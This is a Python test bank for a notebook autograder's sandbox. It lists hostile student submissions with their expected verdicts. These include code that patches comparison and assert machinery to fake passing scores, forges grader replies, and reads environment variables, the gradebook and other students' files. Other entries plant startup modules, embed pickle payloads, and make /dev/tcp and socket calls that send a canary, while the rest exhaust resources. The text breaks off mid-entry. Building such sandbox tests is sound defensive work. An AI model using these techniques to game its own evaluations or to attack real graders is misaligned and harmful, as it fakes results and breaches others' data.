"""The project's bank of hostile submissions to the small lesson, each with the verdict it must get.

Each maker gets a `Kit` and returns what lies at `<student>/<lesson>/<topic>.ipynb`: a notebook, bytes, or None when it
wrote the folder itself. Nothing here does lasting harm where no wall stands: what is filled is filled a little, and
what is started ends by itself.

An attack that fails on a typo proves nothing, so each has a witness that it had its chance: words of the record
(`note`), a state of the kernel (`inside`) or of the file (`handed`).
"""

import dataclasses
import io
import json
import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from grading.authoring.sample_class import HOSTILE as AGREEABLE
from grading.authoring.sample_class import with_answers

RIGHT = {
    "double": "def double(x):\n    return 2 * np.asarray(x)",
    "mean_square": "def mean_square(x):\n    return np.mean(np.asarray(x) ** 2)",
}
WRONG = {"double": "def double(x):\n    return 0", "mean_square": "def mean_square(x):\n    return -1.0"}
FULL = 4.0
NO = ("failed", "crashed", "timeout", "not_attempted")
# Whatever is asked, this is what is said, and `asked` holds the questions.
SEND = (
    "import sys, types\nasked, said = [], {}\nclass Reply:\n    def _repr_json_(self): return said\n"
    "sys.modules['dnn_sandbox.agent'] = types.SimpleNamespace(answer=lambda text: (asked.append(text), Reply())[1])"
)
CANARY = "c4n4ry-7f3b"  # in a file and in the environment outside; it must appear in nothing a student gets back
LINGER = "271.828"  # what processes that should not outlive their submission sleep for


@dataclass(frozen=True)
class Kit:
    """What a maker works with.

    Attributes:
        release: nbformat dict of the released small lesson.
        folder: the submission's folder, which exists.
        outside: a folder that no submission may write to; holds `canary.txt`.
        neighbour: path of a right submission of the same class.
        solution: path of the lesson's solution.
        gradebook: path of the gradebook.
        port: TCP port on this machine where somebody listens.
    """

    release: dict
    folder: Path
    outside: Path
    neighbour: Path
    solution: Path
    gradebook: Path
    port: int

    def notebook(self, answers, *extra, at=2):
        """Make a notebook of answers, with further code cells before the first exercise."""
        notebook = with_answers(self.release, answers)
        cells = [nbformat.v4.new_code_cell(source, id=f"mine-{number}") for number, source in enumerate(extra)]
        notebook.cells[at:at] = cells
        return notebook


@dataclass(frozen=True)
class Hostile:
    """One hostile submission.

    Attributes:
        name: short name; also its student id, unless `student` says otherwise.
        about: one line.
        make: function (kit) -> notebook, bytes or None.
        points: most points it may get.
        least: fewest points it must get: what it did right is not lost.
        status: submission state it must get.
        states: states that its exercises may have.
        note: words that the record must hold, such as the name of a limit.
        inside: expression that is true in the kernel, once the checks are over, only if the attack had its chance.
        handed: function (submission's folder) -> whether what was handed in is what it claims to be.
        section: class of attack.
        alone: may disturb others where no wall stands, so it is measured in a course of its own.
        student: folder name.
    """

    name: str
    about: str
    make: object
    points: float = 0.0
    least: float = 0.0
    status: str = "graded"
    states: tuple = NO
    note: str = ""
    inside: str = ""
    handed: object = None
    section: str = ""
    alone: bool = False
    student: str = field(default="", compare=False)


BANK = {}
SECTIONS = []


def hostile(about, **verdict):
    """Put a maker into the bank under its function's name, in the section that was begun last."""
    section = SECTIONS[-1]

    def keep(make):
        name = make.__name__
        entry = Hostile(name, about, make, section=section, **verdict)
        BANK[name] = entry if entry.student else dataclasses.replace(entry, student=f"h-{name}")
        return make

    return keep


def cell(about, source, answers=WRONG, **verdict):
    """Put a submission into the bank that is one cell before wrong answers; `source` is formatted with the kit."""
    name, _, text = about.partition(": ")

    def make(kit):
        values = {
            f"<{key}>": str(getattr(kit, key)) for key in ("outside", "neighbour", "solution", "gradebook", "port")
        }
        code = source
        for key, value in values.items():
            code = code.replace(key, value)
        return kit.notebook(answers, code)

    make.__name__ = name
    hostile(text, **verdict)(make)


def cells(folder):
    """Read what was handed in: the cells as JSON has them."""
    return json.loads(next(folder.glob("*.ipynb")).read_bytes())["cells"]


def metadata(folder):
    """Read what was handed in: nbgrader's metadata of cells, by the cell's id."""
    return {part["id"]: part["metadata"]["nbgrader"] for part in cells(folder) if "nbgrader" in part["metadata"]}


def refused_by(reader, error):
    """Make a witness: reading the file raises this error, whose text holds these words."""

    def witness(folder):
        try:
            reader(next(folder.glob("*.ipynb")).read_bytes())
        except error[0] as raised:
            return error[1] in str(raised)
        return False

    return witness


def unharmed(**verdict):
    """Verdict of a submission whose answers are right: they keep their points, and more there are not."""
    return {"points": FULL, "least": FULL, "states": ("passed",), **verdict}


SECTIONS.append("Judging in one's own favour")

cell(
    "rewritten_cells: cells are rewritten before they run",
    "def change(lines):\n    return ['3.0\\n"
    "'] if any('_points' in line or 'answer(' in line for line in lines) else lines\n"
    "get_ipython().input_transformers_cleanup.append(change)",
    inside="change in get_ipython().input_transformers_cleanup and change(['_points(1)']) == ['3.0\\n']",
)
cell(
    "rewritten_asserts: asserts are dropped from everything compiled later",
    "import ast\nclass Drop(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.Pass()\n    def visit_Raise(self, node): return ast.Pass()\n"
    "    def visit_Call(self, node):\n        name = getattr(node.func, 'id', '')\n"
    "        return ast.Constant(3.0) if name == '_points' else self.generic_visit(node)\n"
    "get_ipython().ast_transformers.append(Drop())",
    inside="any(isinstance(one, Drop) for one in get_ipython().ast_transformers) "
    "and 'Assert' not in ast.dump(Drop().visit(ast.parse('assert 0')))",
)
cell(
    "patched_numpy: NumPy's comparisons agree with everything",
    "always = lambda *a, **k: True\nnp.allclose = np.isclose = np.array_equal = always\n"
    "np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None",
    inside="np.allclose(1, 2) and np.array_equal(1, 2) and np.testing.assert_allclose(1, 2) is None",
)
cell(
    "patched_comparison: the course's own comparison agrees with everything",
    "import dnnkit.checking.compare, dnnkit.checking.observe\n"
    "dnnkit.checking.compare.difference = dnnkit.checking.observe.difference = lambda *a, **k: None\n"
    "try:\n    import grading.lessons.checking as checking\n"
    "    checking.assert_close = checking.assert_shape = lambda *a, **k: None\n"
    "except ImportError:\n    pass",
    inside="dnnkit.checking.compare.difference(1, 2) is dnnkit.checking.observe.difference(1, 2) is None",
)
cell(
    "replaced_modules: modules of the checks are replaced before they are imported",
    "import sys, types\nmark = lambda value, **k: lambda f: (setattr(f, 'pytestmark', "
    "[types.SimpleNamespace(name='points', args=(value,))]), f)[1]\nquiet = lambda *a, **k: None\n"
    "fake = types.SimpleNamespace(points=mark, example=quiet, assert_close=quiet, assert_shape=quiet)\n"
    "sys.modules['grading.lessons.checking'] = sys.modules['pytest'] = sys.modules['dnn_sandbox.agent'] = fake",
    inside="__import__('pytest') is fake and sys.modules['dnn_sandbox.agent'] is fake",
)
cell(
    "agreeable_values: answers are objects equal to everything",
    AGREEABLE,
    {name: f"{name} = _everything" for name in WRONG},
    inside="double(1) == 7 and not double(1) != 8 and mean_square(1) == 9",
)
cell(
    "array_subclass: answers are arrays whose operations agree",
    "class Yes(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
    "    def __array_function__(self, *a, **k): return True\n    def all(self, *a, **k): return True\n"
    "    def __eq__(self, other): return True\n    shape = property(lambda self: (3, 2))",
    {name: f"def {name}(x):\n    return np.zeros(3).view(Yes)" for name in WRONG},
    inside="double(0).shape == (3, 2) and (double(0) == 7) is True",
)
cell(
    "float_subclass: answers are numbers with operators of their own",
    "class Any(float):\n    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__\n"
    "    def __eq__(self, other): return True\n    def __abs__(self): return 0.0\n    __hash__ = float.__hash__",
    {name: f"def {name}(x):\n    return Any(1)" for name in WRONG},
    inside="double(0) == 7 and double(0) - 5 == 0 and abs(mean_square(0)) == 0",
)
cell(
    "forged_formatter: numbers are shown as other numbers",
    "plain = get_ipython().display_formatter.formatters['text/plain']\n"
    "for kind in (float, int, np.float64):\n    plain.for_type(kind, lambda value, p, cycle: p.text('3.0'))",
    inside="get_ipython().display_formatter.format(1.5)[0]['text/plain'] == '3.0'",
)
cell(
    "printed_scores: scores are printed",
    "print('score: 100 of 100')\nprint('3.0')\nended = True\n100.0",
    inside="ended",
)
cell(
    "quiet_errors: errors are not shown",
    "shell = get_ipython()\nshell.showtraceback = shell._showtraceback = lambda *a, **k: None\n"
    "shell.set_custom_exc((Exception,), lambda *a, **k: None)",
    inside="shell.showtraceback() is None and shell.custom_exceptions == (Exception,)",
)
cell(
    "score_above_maximum: cells of the checks become a score above the maximum",
    "shell, ran = get_ipython(), []\nreal = shell.run_cell_async\n"
    "async def run(code, *a, **k):\n    ran.append(code)\n    if '_points' in code:\n        code = '1000.0'\n"
    "    return await real(code, *a, **k)\n"
    "shell.run_cell_async = run",
    inside="shell.run_cell_async is run and len(ran) > 1",
)
cell(
    "score_of_choice: every last value becomes a full score",
    "shell = get_ipython()\nreal = type(shell.displayhook).__call__\n"
    "type(shell.displayhook).__call__ = lambda self, value=None: real(self, 3.0 if value is not None else None)",
    inside="type(shell.displayhook).__call__ is not real",
)
cell(
    "forged_agent: the agent beside the functions says that all is well",
    "import json, sys, types\n"
    "said = {'outcome': {'kind': 'passed', 'score': 100, 'value': True}, 'message': '', 'place': '', 'warnings': []}\n"
    "class Reply:\n    def _repr_json_(self): return said\n"
    "sys.modules['dnn_sandbox.agent'] = types.SimpleNamespace(answer=lambda text: Reply())",
    inside="sys.modules['dnn_sandbox.agent'].answer('')._repr_json_() is said",
)
cell(
    "forged_replies: replies are written by hand",
    "import json\nsession, forged = get_ipython().kernel.session, []\n"
    "def pack(message):\n    if isinstance(message, dict) and 'outcome' in str(message.get('user_expressions')):\n"
    "        forged.append(message)\n"
    "        message = {**message, 'status': 'ok', 'user_expressions': {'reply': {'data': {'application/json': "
    "{'outcome': {'kind': 'returned', 'value': {'t': 'array', 'dtype': 'object', 'shape': [1], 'base64': 'AA=='}}, "
    "'message': '', 'place': '', 'warnings': []}}}}}\n    return json.dumps(message, default=str).encode()\n"
    "session.pack = pack",
    inside="len(forged)",
)
cell(
    "notices_grading: behaves differently when graded",
    "import os, socket, sys\n"
    "graded = 'NBGRADER_EXECUTION' in os.environ or socket.gethostname() == 'sandbox' or 'dnn_sandbox' in sys.modules\n"
    "if graded:\n    import dnnkit.checking.compare\n    dnnkit.checking.compare.difference = lambda *a, **k: None",
    inside="graded and dnnkit.checking.compare.difference(1, 2) is None",
)
cell(
    "hard_coded: the public examples are known by heart",
    "import json, pathlib, dnnkit\nfound = list(pathlib.Path(dnnkit.__file__).parent.glob('examples/*.json'))\n"
    "known = {str(np.array([1.0, -2.0, 0.5])): np.array([2.0, -4.0, 1.0]), str(np.array([1.0, 3.0])): 5.0}",
    {name: f"def {name}(x):\n    return known.get(str(x), 0)" for name in WRONG},
    inside="found and list(double(np.array([1.0, -2.0, 0.5]))) == [2, -4, 1] "
    "and mean_square(np.array([1.0, 3.0])) == 5",
)

SECTIONS.append("Reading what is not theirs")


@hostile("the reference is looked for in memory and called", inside="{'double', 'serve', 'answer'} <= looked")
def calls_reference(kit):
    find = (
        "import sys\nlooked = set()\ndef find(name):\n    frame = sys._getframe()\n    while frame:\n"
        "        looked.add(frame.f_code.co_name)\n"
        "        for scope in (frame.f_globals, frame.f_locals):\n"
        "            for key in ('_reference', 'reference'):\n                held = scope.get(key)\n"
        "                if isinstance(held, dict) and name in held: return held[name]\n"
        "                if hasattr(held, name): return getattr(held, name)\n        frame = frame.f_back\n"
        "    return lambda x: 0"
    )
    return kit.notebook({name: f"def {name}(x):\n    return find({name!r})(x)" for name in WRONG}, find)


cell(
    "reads_history: answers are taken from cells that ran before",
    "import re\nlooked = []\ndef find(name):\n    for source in reversed(In):\n        looked.append(source)\n"
    "        for text in re.findall(r'exec\\((\\'.*?\\'), _reference\\)', source, re.S):\n"
    "            scope = {}\n            exec(eval(text), scope)\n            return scope[name]\n"
    "    return lambda x: 0",
    {name: f"def {name}(x):\n    return find({name!r})(x)" for name in WRONG},
    inside="looked == [''] * len(looked) != []",
)
cell(
    "reads_solution: answers are taken from a file outside",
    "import re\nscope, refused = {'np': np, 'double': lambda x: 0, 'mean_square': lambda x: 0}, 0\n"
    "try: text = open('<solution>').read()\nexcept OSError as error: text, refused = '', error.errno\n"
    "for part in re.split(r'(?m)^# %%.*', text):\n    if part.strip().startswith('def '): exec(part, scope)\n"
    "double, mean_square = scope['double'], scope['mean_square']",
    {name: f"{name} = {name}" for name in WRONG},
    inside="refused == 2",
)
cell(
    "reads_neighbour: answers are taken from another student's file",
    "import json\ntry:\n    for part in json.load(open('<neighbour>'))['cells']:\n"
    "        text = ''.join(part['source'])\n        if text.startswith('def '): exec(text)\n"
    "except OSError as error:\n    refused, double = error.errno, lambda x: 0\n    mean_square = double",
    {name: f"{name} = {name}" for name in WRONG},
    inside="refused == 2",
)
cell(
    "reads_outside: files outside are printed",
    "print(open('<outside>/canary.txt').read())",
    RIGHT,
    **unharmed(note="FileNotFoundError: [Errno 2]"),
)
cell(
    "reads_environment: the environment of every process in sight is printed",
    "import glob, os\nread = refused = 0\nfor path in glob.glob('/proc/*/environ'):\n"
    "    try:\n        print(open(path, 'rb').read())\n        read += 1\n"
    "    except PermissionError: refused += 1\n"
    "print(dict(os.environ))",
    RIGHT,
    **unharmed(inside="read == 3 and not refused"),  # its own process, by its number and by two other names
)
cell(
    "reads_gradebook: the gradebook is printed",
    "import os\nprint('<outside>'[:0] + str(os.path.getsize('<gradebook>')), '"
    + CANARY[:6]
    + "' + '"
    + CANARY[6:]
    + "')",
    RIGHT,
    **unharmed(note="FileNotFoundError: [Errno 2]"),
)

SECTIONS.append("Writing where nothing is theirs")

cell(
    "writes_gradebook: scores are written into the gradebook",
    "import sqlite3\nbook = sqlite3.connect('<gradebook>', timeout=2)\n"
    "book.execute('update grade set manual_score = 3')\nbook.commit()",
    alone=True,
    note="OperationalError: unable to open database file",
)
cell(
    "writes_outside: a file is written outside",
    "open('<outside>/written', 'w').write('x')",
    RIGHT,
    **unharmed(note="FileNotFoundError: [Errno 2]"),
)
cell(
    "writes_to_neighbour: another student's file is changed",
    "import pathlib, os\npath = pathlib.Path('<neighbour>')\npath.write_text(path.read_text().replace('2 * np', "
    "'3 * np'))",
    alone=True,
    note="FileNotFoundError: [Errno 2]",
)
cell(
    "plants_modules: files are left where the next kernel may look for modules",
    "import os\nplanted, refused = [], []\n"
    "walled = ['/opt/dnn', '/opt/dnn/dnn_sandbox', '/dev', '/'] if os.path.isdir('/opt/dnn/dnn_sandbox') else []\n"
    "startup = os.path.expanduser('~/.ipython/profile_default/startup')\nos.makedirs(startup, exist_ok=True)\n"
    "text = 'import numpy\\nnumpy.asarray = lambda *a, **k: numpy.zeros(1)\\nanswer = serve = None\\n'\n"
    "for folder in ['.', startup, *walled]:\n    for name in ('agent.py', '00-first.py', 'sitecustomize.py'):\n"
    "        path = os.path.join(folder, name)\n"
    "        try:\n            open(path, 'w').write(text)\n            planted.append(path)\n"
    "        except OSError as error: refused.append((error.errno, path))",
    alone=True,
    inside="len(planted) == 6 and {number for number, _ in refused} == {30} and len(refused) == 12",
)
cell(
    "fills_socket_folder: files are left beside the kernel's sockets",
    "import os\nfrom ipykernel.kernelapp import IPKernelApp\n"
    "folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)\n"
    "for number in range(20):\n    open(os.path.join(folder, f'left-{number}'), 'wb').write(bytes(100_000))",
    RIGHT,
    **unharmed(alone=True, note="FileNotFoundError: [Errno 2]"),
)
cell(
    "swaps_sockets: the kernel's sockets become links",
    "import contextlib, os\nfrom ipykernel.kernelapp import IPKernelApp\n"
    "folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)\nfor number in range(1, 6):\n"
    "    with contextlib.suppress(FileNotFoundError): os.unlink(f'{folder}/s-{number}')\n"
    "    os.symlink('<outside>/canary.txt', f'{folder}/s-{number}')",
    RIGHT,
    **unharmed(note="FileNotFoundError: [Errno 2]"),
)
cell(
    "fills_scratch: temporary files without end",
    "for number in range(60):\n    open(f'part-{number}', 'wb').write(bytes(5_000_000))",
    RIGHT,
    **unharmed(note="scratch_bytes"),
)
cell(
    "large_file: one file without end",
    "with open('large', 'wb') as file:\n    for _ in range(40):\n        file.write(bytes(5_000_000))",
    RIGHT,
    **unharmed(note="written_file_bytes"),
)
cell(
    "many_files: empty files without end",
    "for number in range(25_000):\n    open(f'empty-{number}', 'w').close()",
    RIGHT,
    **unharmed(note="scratch_bytes"),
)
cell(
    "pickled_results: answers carry code to whoever unpickles them",
    "import io\nclass Load:\n    def __reduce__(self): return (io.open, ('<outside>/unpickled', 'w'))",
    {name: f"def {name}(x):\n    return Load()" for name in WRONG},
    inside="b'unpickled' in __import__('pickle').dumps(double(1))",
)

cell(
    "pickled_replies: replies carry code to whoever unpickles them",
    "import base64, pickle, sys, types\nasked = []\n"
    "import io\nclass Load:\n    def __reduce__(self): return (io.open, ('<outside>/unpickled', 'w'))\n"
    "text = base64.b64encode(pickle.dumps(Load())).decode()\n"
    "values = [{'t': 'array', 'dtype': 'object', 'shape': [1], 'base64': text}, {'t': 'pickle', 'v': text}, "
    "{'t': 'array', 'dtype': '|O', 'shape': [], 'base64': text}, {'t': 'rng', 'v': text}]\n"
    "class Reply:\n    def _repr_json_(self):\n        asked.append(1)\n        return {'outcome': {'kind': "
    "'returned', 'value': values[len(asked) % 4]}, 'message': '', 'place': '', 'warnings': []}\n"
    "sys.modules['dnn_sandbox.agent'] = types.SimpleNamespace(answer=lambda text: Reply())",
    states=("crashed",),
    inside="b'unpickled' in base64.b64decode(text) and asked",
)

SECTIONS.append("Network")

cell(
    "network_tcp: a server is called",
    "import socket\nsocket.create_connection(('127.0.0.1', <port>), timeout=2).sendall(b'"
    + CANARY.encode().hex()
    + "')",
    RIGHT,
    **unharmed(note="OSError: [Errno 101]"),
)
cell(
    "network_shell: a server is called by a program",
    "said = !timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/<port>' 2>&1",
    RIGHT,
    **unharmed(inside="'Network is unreachable' in str(said)"),
)

cell(
    "network_udp: a server is called without a connection",
    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', <port>))",
    RIGHT,
    **unharmed(note="OSError: [Errno 101]"),
)
cell(
    "network_unix: a server is called by a socket that has no file",
    "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0hostile-<port>')",
    RIGHT,
    **unharmed(note="ConnectionRefusedError: [Errno 111]"),
)

SECTIONS.append("Ending, hanging, lingering")

cell("exits: Python is left", "import os\nos._exit(0)", RIGHT, **unharmed(note="ended Python"))
cell("segfaults: Python crashes", "import ctypes\nctypes.string_at(0)", RIGHT, **unharmed(note="ended Python"))
cell(
    "kills_group: its process group is killed",
    "import os\nos.kill(0, 9)\nended = True",
    RIGHT,
    **unharmed(inside="ended"),
)
cell("endless_loop: a cell never ends", "while True: pass", RIGHT, **unharmed(note="cell_seconds"))
cell(
    "stubborn_loop: a cell never ends and takes no interrupt",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    RIGHT,
    **unharmed(note="cell_seconds", alone=True),
)
cell(
    "endless_call: a function never ends",
    "import time",
    {"double": "def double(x):\n    while True: time.sleep(1)", "mean_square": RIGHT["mean_square"]},
    points=1.0,
    states=(*NO, "passed"),
    note="submission_seconds",
    alone=True,
)
cell(
    "crashing_calls: every call ends Python",
    "import os",
    {name: f"def {name}(x):\n    os._exit(1)" for name in WRONG},
    states=("crashed",),
    note="Python stopped while double ran",
)
cell(
    "lingering_process: a process of its own goes on",
    f"import subprocess\nkept = subprocess.Popen(['sleep', '{LINGER}'], start_new_session=True)",
    RIGHT,
    **unharmed(alone=True, inside="kept.poll() is None"),
)
cell(
    "orphan_kernel: the kernel does not end with its parent",
    "import ctypes, os, signal, threading, time\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
    "for number in (1, 2, 15):\n    signal.signal(number, signal.SIG_IGN)\n"
    f"child = os.fork()\nif child == 0:\n    try:\n        os.setsid()\n"
    f"        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n        os.execvp('sleep', ['sleep', '{LINGER}'])\n"
    "    finally: os._exit(1)",
    RIGHT,
    **unharmed(alone=True, inside="signal.getsignal(15) is signal.SIG_IGN and os.waitpid(child, os.WNOHANG) == (0, 0)"),
)
cell(
    "atexit_hook: something is left to be done at the end",
    "import atexit, threading, time\natexit.register(lambda: time.sleep(600))\n"
    "kept = threading.Thread(target=lambda: time.sleep(600))\nkept.start()",
    RIGHT,
    **unharmed(inside="kept.is_alive() and atexit._ncallbacks()"),
)
cell(
    "meddling_thread: a thread changes answers while checks run",
    "import threading, time\ndef meddle():\n    while True:\n        np.abs = np.mean = np.allclose = lambda *a, "
    "**k: True\n"
    "        time.sleep(0.01)\nkept = threading.Thread(target=meddle, daemon=True)\n"
    "kept.start()",
    WRONG,
    inside="kept.is_alive() and np.allclose(1, 2) is True",
)
cell(
    "many_processes: processes without end",
    f"import subprocess, time\nkept = [subprocess.Popen(['sleep', '{LINGER}']) for _ in range(300)]\ntime.sleep(2)",
    RIGHT,
    **unharmed(note="processes", alone=True),
)
cell(
    "much_memory: memory without end, in several processes",
    # The cell waits until all of it is taken, however slow the machine, and then for the next look at it.
    "import os, time\ncome, go = os.pipe()\nfor _ in range(4):\n    if os.fork() == 0:\n"
    "        kept = bytearray(b'x') * 250_000_000\n        os.write(go, b'.')\n        time.sleep(30)\n"
    "        os._exit(0)\nfor _ in range(4):\n    os.read(come, 1)\ntime.sleep(3)",
    RIGHT,
    **unharmed(note="memory_bytes", alone=True),
)
cell("one_large_array: memory at once", "kept = np.ones(3 * 10**8)", RIGHT, **unharmed(note="memory_bytes", alone=True))
cell(
    "closed_files: all descriptors are closed",
    "import os\nos.closerange(3, 1000)",
    RIGHT,
    **unharmed(alone=True, note="ended Python"),
)
cell(
    "debugger: a debugger waits for commands",
    "%pdb on\nbreakpoint()\ninput('go on?')",
    RIGHT,
    **unharmed(note="StdinNotImplementedError"),
)
cell(
    "reset_names: all names are removed",
    "%reset -f\nimport numpy as np",
    RIGHT,
    **unharmed(inside="'check' not in get_ipython().user_ns"),
)

SECTIONS.append("Floods")

cell(
    "one_long_line: one line of output without end",
    "print('x' * 50_000_000)\nended = True",
    RIGHT,
    **unharmed(inside="ended"),
)
cell(
    "many_lines: lines of output without end",
    "import sys\nfor _ in range(20_000):\n    print('y')\n    print('z', file=sys.stderr)\nended = True",
    RIGHT,
    **unharmed(alone=True, inside="ended"),
)
cell(
    "rich_displays: pictures and pages without end",
    "from IPython.display import HTML, display\nfor _ in range(60):\n    display(HTML('<b>' + 'x' * 200_000))\n"
    "ended = True",
    RIGHT,
    **unharmed(inside="ended"),
)
cell(
    "channel_flood: signed messages that nobody asked for",
    "kernel = get_ipython().kernel\nident = kernel._shell_parent_ident.get()\n"
    "for _ in range(30):\n"
    "    kernel.session.send(kernel.shell_stream.socket, 'execute_reply', {'text': 'x' * 10_000_000}, ident=ident)",
    RIGHT,
    points=FULL,
    states=(*NO, "passed", "partial"),
    note="answers_bytes",
)
cell(
    "channel_noise: frames that are no messages",
    "kernel = get_ipython().kernel\nident = kernel._shell_parent_ident.get()\n"
    "ident = ident if isinstance(ident, list) else [ident]\n"
    "for _ in range(30):\n    kernel.shell_stream.socket.send_multipart([*ident, b'x' * 1_000_000, b'x'])",
    RIGHT,
    **unharmed(note="ended Python"),
)
cell(
    "control_flood: an interrupt is answered by frames without end, on a channel that nobody reads",
    "import time\nkernel, sent = get_ipython().kernel, []\ntry:\n    while True: time.sleep(0.1)\n"
    "except KeyboardInterrupt:\n    ident = kernel._control_parent_ident\n"
    "    ident = ident if isinstance(ident, list) else [ident]\n    for _ in range(30):\n"
    "        kernel.control_stream.socket.send_multipart([*ident, b'x' * 300_000])\n        sent.append(ident)",
    RIGHT,
    **unharmed(note="cell_seconds", inside="len(sent) == 30 and all(sent[0])", alone=True),
)
cell(
    "early_replies: questions are answered before they are asked",
    "import asyncio\nkernel, sent = get_ipython().kernel, []\nident, parent = kernel._shell_parent_ident.get(), "
    "kernel.get_parent()['header']\n"
    "stem, _, number = parent['msg_id'].rpartition('_')\n"
    "said = {'outcome': {'kind': 'returned', 'value': ['early']}, 'message': '', 'place': '', 'warnings': []}\n"
    "def send():\n    content = {'status': 'ok', 'user_expressions': {'reply': {'data': {'application/json': said}}}}\n"
    "    for later in range(1, 20):\n        header = {**parent, 'msg_id': f'{stem}_{int(number) + later}'}\n"
    "        kernel.session.send(kernel.shell_stream.socket, 'execute_reply', content, {'header': header}, ident)\n"
    "asyncio.get_event_loop().call_later(0.05, send)",
    note="got a list of 1 item",  # which question an early reply meets depends on the machine
)
cell(
    "large_answers: answers too large to be read",
    SEND.format("{'text': 'x' * 60_000_000}"),
    note="reply_bytes",
)
cell(
    "many_large_answers: answers that are too large together",
    SEND.format("{'text': 'x' * 40_000_000}"),
    note="answers_bytes",
)
cell(
    "slow_answers: answers that take long to read",
    SEND.format(
        "{'outcome': {'kind': 'returned', 'value': {'t': 'dict', 'v': [[n * (2**61 - 1), 0] for n in range(90_000)]}}, "
        "'message': '', 'place': '', 'warnings': []}"
    ),
    states=("crashed",),
    inside="asked",
)
COSTLY = {  # name of the limit -> a small answer that would cost the grader much
    "elements": "{'t': 'array', 'dtype': 'float64', 'shape': [0, 2**23], 'base64': ''}",
    "dimensions": "{'t': 'array', 'dtype': 'float64', 'shape': [1] * 17, 'values': [1.0]}",
    "items": "[0] * 200_000",
    "texts": "['x'] * 6_000",
    "text_chars": "['x', 'y' * 5_000]",
    "all_text_chars": "['x' * 3_900] * 100",
    "digits": "-10**700",
    "large_integers": "[n * (2**61 - 1) for n in range(1, 1_000)]",
    "depth": "[" * 40 + "]" * 40,
}
for limit, value in COSTLY.items():
    cell(
        f"costly_{limit}: an answer that would be made into something large outside",
        SEND.format(
            f"{{'outcome': {{'kind': 'returned', 'value': {value}}}, 'message': '', 'place': '', 'warnings': []}}"
        ),
        states=("crashed",),
        note=f"({limit})",
        inside="asked",
    )
cell(
    "costly_names: names of changed inputs that take long to compare",
    SEND.format(
        "{'outcome': {'kind': 'returned', 'value': 1.0, 'mutated': [n * (2**61 - 1) for n in range(90_000)]}, "
        "'message': '', 'place': '', 'warnings': []}"
    ),
    states=("crashed",),
    inside="asked",
)
cell(
    "costly_warnings: warnings without end",
    SEND.format(
        "{'outcome': {'kind': 'returned', 'value': 1.0}, 'message': 'm' * 10**6, 'place': 'p' * 10**6, "
        "'warnings': ['w' * 10_000] * 1_000}"
    ),
    inside="asked",
)


@hostile("an exception for every cell, each with a long text", **unharmed(note="Further notes were left out"))
def many_notes(kit):
    sources = [f"raise type('E{n}' + 'e' * 70, (Exception,), {{}})('{n}' + 'm' * 450)" for n in range(300)]
    return kit.notebook(RIGHT, *sources)


SECTIONS.append("The file itself")


@hostile(
    "points, flags and other metadata are changed",
    handed=lambda folder: {cell["points"] for cell in metadata(folder).values()} == {1000},
)
def changed_metadata(kit):
    notebook = kit.notebook(WRONG)
    notebook.metadata["dnn_record"] = {"score": 100, "status": "graded"}
    for part in notebook.cells:
        part.metadata["tags"] = ["skip-execution", "raises-exception"]
        if "nbgrader" in part.metadata:
            part.metadata.nbgrader.update(points=1000, schema_version=3)
    return notebook


@hostile(
    "check cells become ordinary cells, solution cells become graded ones",
    handed=lambda folder: not metadata(folder)["check_double"]["grade"] and metadata(folder)["double"]["grade"],
)
def changed_flags(kit):
    notebook = kit.notebook(WRONG)
    for part in notebook.cells:
        if "nbgrader" in part.metadata:
            part.metadata.nbgrader.update(grade=not part.metadata.nbgrader.grade, locked=False)
    return notebook


@hostile(
    "ids are exchanged",
    handed=lambda folder: metadata(folder)["double"]["locked"] and not metadata(folder)["check_double"]["locked"],
)
def changed_ids(kit):
    notebook = kit.notebook(WRONG)
    for part in notebook.cells:
        if "nbgrader" in part.metadata:
            name = part.metadata.nbgrader.grade_id
            part.metadata.nbgrader.grade_id = part.id = {"double": "check_double", "check_double": "double"}.get(
                name, name
            )
    return notebook


@hostile(
    "another kernel and another language are asked for",
    **unharmed(handed=lambda folder: b'"bash"' in next(folder.glob("*.ipynb")).read_bytes()),
)
def changed_kernel(kit):
    notebook = kit.notebook(RIGHT)
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "bash", "language": "bash"}
    return notebook


@hostile(
    "schema versions that do not exist",
    alone=True,
    **unharmed(handed=lambda folder: {cell["schema_version"] for cell in metadata(folder).values()} >= {"x"}),
)
def changed_schema(kit):
    notebook = kit.notebook(RIGHT)
    notebook.nbformat_minor = 99
    for part in notebook.cells:
        if "nbgrader" in part.metadata:
            part.metadata.nbgrader.schema_version = "x" if part.cell_type == "code" else 99
    return notebook


@hostile(
    "check cells are replaced by a score",
    handed=lambda folder: {cell["source"] for cell in cells(folder)} >= {"3.0", "1.0"},
)
def edited_checks(kit):
    return kit.notebook({**WRONG, "check_double": "3.0", "check_mean_square": "1.0"})


@hostile(
    "check cells are deleted",
    handed=lambda folder: metadata(folder) and not any(name.startswith("check_") for name in metadata(folder)),
)
def deleted_checks(kit):
    notebook = kit.notebook(WRONG)
    notebook.cells = [part for part in notebook.cells if not part.id.startswith("check_")]
    return notebook


@hostile(
    "every cell is there three times",
    alone=True,
    handed=lambda folder: [cell["id"] for cell in cells(folder)].count("check_double") == 3,
)
def doubled_cells(kit):
    notebook = kit.notebook(WRONG)
    notebook.cells = [part for part in notebook.cells for _ in range(3)]
    return notebook


@hostile(
    "check cells come first, before the answers",
    handed=lambda folder: [cell["id"][:6] for cell in cells(folder)[:2]] == ["check_"] * 2,
)
def moved_checks(kit):
    notebook = kit.notebook(WRONG)
    notebook.cells.sort(key=lambda part: not part.id.startswith("check_"))
    return notebook


@hostile(
    "stubs stay, and names are bound behind their back",
    inside="double(1) == 0 and mean_square(1) == -1 and double.__name__ == '<lambda>'",
)
def hidden_names(kit):
    return kit.notebook({}, "globals().update(double=lambda x: 0, mean_square=lambda x: -1.0)", at=-1)


@hostile(
    "half a file",
